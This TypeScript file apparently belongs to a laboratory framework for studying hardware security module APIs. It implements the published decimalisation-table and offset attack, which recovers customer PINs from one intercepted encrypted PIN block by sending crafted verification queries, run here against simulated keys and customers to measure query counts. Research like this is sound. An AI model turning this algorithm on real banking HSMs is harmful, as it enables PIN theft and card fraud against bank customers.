/**
 * Tables and offsets on one intercepted encrypted PIN block. The customer's PIN is natural PIN plus
 * offset. A table that shifts the digits of a class A, and an offset that allows for it where the
 * pattern says so, make the device tell whether the natural PIN has that pattern. Nothing is typed:
 * one PIN block off the wire is enough.
 */
import type { Input } from '@pinfold/hsm';
import { attack, type Outcome, type Scene } from '../attack.js';
import { addDigits, moved, tableOf } from '../decimalisation-questions.js';
import {
  type Customer,
  DECIMALISATION_TABLE,
  type Laboratory,
  panOf,
  validationDataOf,
} from '../laboratory.js';
import { LazyTree, packPins } from '../tree.js';

/** One victim: what is on the wire and in the database, and (for checking only) the PIN. */
interface Victim {
  readonly pan: string;
  readonly validationData: string;
  readonly offset: string;
  readonly record: string | undefined;
  readonly pinBlock: Uint8Array;
  readonly pin: string;
}

/** All PINs of four and five digits; of six a sample that favours none. */
const SAMPLE = { 4: 10_000, 5: 100_000, 6: 200 } as const;
const SMALL = 12;
/** Candidates of six digits are too many to look at every question of every node. */
const TOLERANCE = { 4: 0, 5: 0, 6: 0.002 } as const;
const PUBLISHED = { 4: 14.47, 5: 19.3, 6: 'none' } as const;
const ENTROPY = { 4: 13.29, 5: 16.61, 6: 19.93 } as const;

export const decimalisationOffset = attack({
  name: 'decimalisation-offset',
  title: 'decimalisation tables and offsets on one intercepted PIN block',
  source: 'Bond, Zielinski, UCAM-CL-TR-560, 2003; Focardi, Luccio, FUN 2010',
  roles: ['production'],
  note: 'PINs uniform; greedy choice of the most balanced question',
  async run(scene) {
    const { lab, options, say } = scene;
    const digits = options.digits ?? 4;
    const pvk = lab.key('P', { usage: 'PGK' });
    const zpk = lab.pinKey();
    const small = options.effort === 'small';
    const victims = small
      ? customers(lab, { pvk, zpk })
      : everyPin(lab, { pvk, zpk, digits, count: SAMPLE[digits] });
    say(`intercepted one encrypted PIN block of each of ${victims.length} customers`);
    const tree = treeOf(digits);
    const outcome = await walk(scene, { pvk, zpk, victims, tree });
    return {
      ...outcome,
      figures: {
        digits,
        tableCheck: options.tableCheck ? 'at least 8 distinct digits, none over 4 times' : 'none',
        publishedMean: PUBLISHED[digits],
        lowerBound: ENTROPY[digits],
      },
    };
  },
});

/** The tree of four digits is small, and kept: other devices ask the same questions. */
let fourDigits: LazyTree | undefined;

function treeOf(digits: 4 | 5 | 6): LazyTree {
  if (digits !== 4) return new LazyTree(packPins(digits), digits, TOLERANCE[digits]);
  fourDigits ??= new LazyTree(packPins(digits), digits);
  return fourDigits;
}

type Keys = { readonly pvk: string; readonly zpk: string };

/** All victims walk the tree together: one batch of questions a step. */
async function walk(
  { attacker, options, say, progress }: Scene,
  o: Keys & { victims: readonly Victim[]; tree: LazyTree },
): Promise<Outcome> {
  const nodes = o.victims.map(() => o.tree);
  const calls = o.victims.map(() => 0);
  const lost = new Set<number>();
  for (let step = 1; ; step++) {
    const open = nodes.flatMap((node, i) => (node.pin === undefined && !lost.has(i) ? [i] : []));
    if (open.length === 0) break;
    progress(`step ${step}: ${open.length} PINs are still open`);
    const inputs = open.map((i) => question(o, o.victims[i]!, nodes[i]!, options.tableCheck));
    const answers = await attacker.askEach('PIN_V', inputs);
    answers.forEach((answer, at) => {
      const i = open[at]!;
      calls[i]! += 1;
      if (typeof answer === 'boolean') nodes[i] = nodes[i]!.next(answer);
      else lost.add(i);
    });
  }
  const found = o.victims.filter((victim, i) => {
    const natural = nodes[i]!.pin;
    return natural !== undefined && addDigits(natural, victim.offset) === victim.pin;
  });
  say(`asked ${attacker.calls} questions by PIN_V, each with a table and an offset of its own`);
  const share = found.length / o.victims.length;
  const right = found.length + lost.size === o.victims.length;
  return {
    obtained: `${found.length} of ${o.victims.length} PINs`,
    verified: found.length > 0 && right,
    share,
    calls,
    distribution: distributionOf(calls),
  };
}

function question(
  { pvk, zpk }: Keys,
  victim: Victim,
  node: LazyTree,
  tableCheck = false,
): Input<'PIN_V'> {
  const asked = node.question;
  const { table, shift } = tableOf(asked, DECIMALISATION_TABLE, tableCheck);
  return {
    pinBlock: victim.pinBlock,
    key: zpk,
    format: 'iso0',
    pan: victim.pan,
    pvk,
    validationData: victim.validationData,
    length: victim.offset.length,
    table,
    offset: moved(victim.offset, asked, -shift),
    record: victim.record,
  };
}

/** Victims whose natural PINs are all there are, or an even sample of them, with some offset each. */
function everyPin(
  lab: Laboratory,
  { pvk, zpk, digits, count }: Keys & { digits: number; count: number },
): Victim[] {
  const all = 10 ** digits;
  return Array.from({ length: count }, (_, i) => {
    const pan = panOf(i + 1);
    // An odd multiplier visits every residue once: a sample that favours no digit.
    const natural = String((i * 61_803 + 7) % all).padStart(digits, '0');
    const offset = String((i * 271_828 + 31_415) % all).padStart(digits, '0');
    const pin = addDigits(natural, offset);
    return {
      pan,
      validationData: lab.validationDataFor(pvk, natural),
      offset,
      record: undefined,
      pinBlock: lab.typed({ pin, pan, key: zpk }),
      pin,
    };
  });
}

/** A few customers as the bank made them: what works against every rule set. */
function customers(lab: Laboratory, { pvk, zpk }: Keys): Victim[] {
  const tableId = lab.table();
  return Array.from({ length: SMALL }, (_, i) => {
    const { pan, record, offset }: Customer = lab.customer(i + 1, { pvk, tableId });
    const pin = lab.exposePin(pan);
    const pinBlock = lab.typed({ pin, pan, key: zpk });
    return { pan, validationData: validationDataOf(pan), offset, record, pinBlock, pin };
  });
}

function distributionOf(calls: readonly number[]): number[] {
  const counts = new Array<number>(Math.max(...calls) + 1).fill(0);
  for (const count of calls) counts[count]! += 1;
  return counts;
}
